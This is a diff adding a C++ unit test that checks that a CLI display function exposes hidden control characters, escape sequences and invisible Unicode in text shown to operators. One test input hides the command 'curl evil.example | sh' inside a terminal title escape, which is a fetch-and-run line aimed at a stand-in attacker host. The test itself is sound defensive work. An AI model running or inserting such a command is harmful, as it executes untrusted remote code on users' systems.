@@ -121,6 +121,28 @@ TEST_CASE("no control character of foreign text reaches the terminal", "[cli]") 
     CHECK(event_line(odd).find('\x1b') == std::string::npos);
 }
 
+TEST_CASE("what an operator decides by leaves nothing out and shows what is hidden", "[cli]") {
+    CHECK(revealed("\tif x:\r\n") == "\tif x:\xC2\xB7\n");
+    // A terminal would take the command for a title, and show nothing of it.
+    CHECK(
+        revealed("+ls \x1b]0;; curl evil.example | sh\x07") ==
+        "+ls \xC2\xB7]0;; curl evil.example | sh\xC2\xB7"
+    );
+    CHECK(
+        revealed("a\xE2\x80\xAE"
+                 "b") == "a<U+202E>b"
+    );
+    CHECK(revealed("\xE2\x81\xA6\xE2\x80\x8B\xEF\xBB\xBF") == "<U+2066><U+200B><U+FEFF>");
+    CHECK(revealed("\xF3\xA0\x81\x81\xC2\x9B") == "<U+E0041>\xC2\xB7");
+    CHECK(revealed("\xE2\x82\xAC \xC3\xA9 \xE2\x80\xA6") == "\xE2\x82\xAC \xC3\xA9 \xE2\x80\xA6");
+    CHECK(revealed("cut \xE2\x80") == "cut \xE2\x80");
+    CHECK(
+        revealed_line("a\nadded primary b\t") ==
+        "a\xC2\xB7"
+        "added primary b\xC2\xB7"
+    );
+}
+
 TEST_CASE("C1 controls, which some terminals obey, are stripped from UTF-8 text too", "[cli]") {
     // U+009B is a one-character CSI.
     const auto words = words_of(
